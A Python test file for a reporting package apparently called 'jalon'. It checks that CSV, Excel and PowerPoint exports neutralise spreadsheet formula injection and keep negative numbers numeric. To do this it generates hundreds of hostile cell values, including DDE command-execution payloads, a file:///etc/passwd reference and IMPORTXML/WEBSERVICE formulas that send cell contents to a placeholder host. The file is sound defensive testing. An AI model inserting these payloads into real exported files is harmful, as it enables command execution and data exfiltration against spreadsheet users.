"""No cell of any file that leaves the house is a formula, whatever people wrote; a number below zero stays one."""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from dataclasses import replace
from decimal import Decimal
from importlib.util import find_spec
from pathlib import Path

import openpyxl
import pytest
from tests.reports.test_plan_sheets import ABOUT, TABLES, one_table

from jalon.plan.sheets.forms import plain
from jalon.plan.sheets.guarding import SIGNS, unguarded_in_csv
from jalon.reports.codir.forms import FORMS
from jalon.reports.codir.page import Page
from jalon.reports.plan_sheets import plan_archive, plan_csv, plan_workbook

BEFORE = (
    "", "\t", "\r", "\n", "\x0b", "\x1f", " ", "\u00a0", "\u2003", "\u202f", "\u3000", "\ufeff", "\u200b", "\u2060",
    "\u00ad", "\u202e", '"', '""', "'", "''", "' ",
)  # fmt: skip
"""What a spreadsheet may pass over, or take for the end of something."""
BODIES = (
    "1+1", "SUM(1;2)", "SUM(1,2)", 'HYPERLINK("http://x.example","click")', "cmd|' /C calc'!A0", "-2+3", "1,5", "1.5%",
    'DDE("cmd";"/C calc";"x")', 'IMPORTXML(CONCAT("http://x.example/",A1),"//a")', 'WEBSERVICE("http://x.example")',
    "'file:///etc/passwd'#$x.A1", '"a""b"', "A1:Z9", "{1,2}",
)  # fmt: skip
CUTS = (";", ",", "\t", "|", "\n", "\r\n")
FORMS_OF_IT = tuple(
    dict.fromkeys(
        [
            *(f"{before}{sign}{BODIES[(n + m) % len(BODIES)]}" for n, before in enumerate(BEFORE)
              for m, sign in enumerate(SIGNS.replace("\\", ""))),
            *(f"{sign}{body}" for sign in "=+-@" for body in BODIES),
            *(f"label{cut}{space}{sign}SUM(1){cut}x" for cut in CUTS for space in ("", " ", "\u00a0", '"')
              for sign in "=+-@"),
        ]
    )
)  # fmt: skip


def begins_a_formula(text: str) -> bool:
    """Told without the house's own expression: what shows first, its width dropped, is a sign of a formula."""
    seen = next((one for one in text if unicodedata.category(one)[0] not in "ZC" and one != '"'), "")
    return unicodedata.normalize("NFKC", seen)[:1] in tuple("=+-@")


def test_the_forms_are_many_and_each_would_be_run_somewhere() -> None:
    assert len(FORMS_OF_IT) >= 400
    runs = [one for one in FORMS_OF_IT if begins_a_formula(one.lstrip("'")) or any(cut in one for cut in CUTS)]
    assert len(runs) > 0.95 * len(FORMS_OF_IT)


def test_every_sign_that_is_one_in_another_width_is_known() -> None:
    narrow = (chr(code) for code in range(0x80, 0x30000) if unicodedata.category(chr(code)) in ("Sm", "Pd", "Po"))
    assert {one for one in narrow if unicodedata.normalize("NFKC", one)[:1] in tuple("=+-@")} <= set(SIGNS)


@pytest.mark.parametrize("language", ["fr", "en"])
@pytest.mark.parametrize("cut", [";", ",", "\t", "|"])
def test_no_cell_of_a_csv_file_begins_a_formula_wherever_its_reader_cuts(language: str, cut: str) -> None:
    written = plan_csv(one_table(list(FORMS_OF_IT)), language).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(written, newline=""), delimiter=cut))
    assert [cell for row in rows for cell in row if begins_a_formula(cell)] == []
    if cut == (";" if language == "fr" else ","):
        assert [unguarded_in_csv(row[1]) for row in rows[1:]] == [plain(one) for one in FORMS_OF_IT], "each comes back"


def test_no_cell_of_the_plan_s_workbook_is_a_formula_and_each_says_that_it_is_text() -> None:
    _read_as_text(plan_workbook([one_table(list(FORMS_OF_IT))], ABOUT, "fr"), len(FORMS_OF_IT))


def test_no_cell_of_the_board_page_s_workbook_is_a_formula(page: Page) -> None:
    goal, rows = page.goals[0], []
    for one in FORMS_OF_IT:
        rows.append(replace(goal, id=one, name=one, owner=one, value=one, risk=one, action=one, link=one))
    ask = page.asks[0] if page.asks else None
    asks = tuple(replace(ask, question=one, options=one, amount=one) for one in FORMS_OF_IT) if ask else ()
    hostile = replace(page, title=FORMS_OF_IT[0], company=FORMS_OF_IT[1], goals=tuple(rows), asks=asks)
    _read_as_text(FORMS["xlsx"].make(hostile), 7 * len(FORMS_OF_IT))


def _read_as_text(content: bytes, at_least: int) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert len(cells) >= at_least
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert [cell.value for cell in cells if begins_a_formula(cell.value) and not cell.quotePrefix] == []


@pytest.mark.skipif(find_spec("pptx") is None, reason="no python-pptx: `pip install jalon[reports]`")
def test_no_cell_behind_the_chart_of_the_slide_is_a_formula(page: Page) -> None:
    goals = tuple(replace(page.goals[0], id=one, odds_share=0.5) for one in FORMS_OF_IT[:4])
    slide = zipfile.ZipFile(io.BytesIO(FORMS["pptx"].make(replace(page, goals=goals))))
    (behind,) = [name for name in slide.namelist() if name.endswith(".xlsx")]
    book = openpyxl.load_workbook(io.BytesIO(slide.read(behind)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells[3::2]] == [0.5] * 4, "its numbers are numbers"


def test_a_number_below_zero_stays_a_number_in_every_file() -> None:
    below = [Decimal("-5"), Decimal("-0.25"), Decimal("-1234567.89")]
    table = one_table(list(below))
    for language, mark in (("fr", ","), ("en", ".")):
        written = plan_csv(table, language).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(written, newline=""), delimiter=";" if language == "fr" else ","))
        assert [Decimal(row[1].replace(mark, ".")) for row in rows[1:]] == below
    book = openpyxl.load_workbook(io.BytesIO(plan_workbook([table], ABOUT, "fr")))
    cells = [row[1] for row in book["Personnes"].iter_rows(min_row=3)]
    assert [(cell.data_type, cell.value) for cell in cells] == [("n", float(one)) for one in below]


def test_no_cell_of_the_sound_plan_is_marked_for_nothing(tmp_path: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(plan_archive(TABLES, ABOUT, "fr"))) as archive:
        written = [archive.read(name).decode("utf-8-sig") for name in archive.namelist()]
    assert [line for text in written for line in text.splitlines() if "'-" in line or "'=" in line] == []
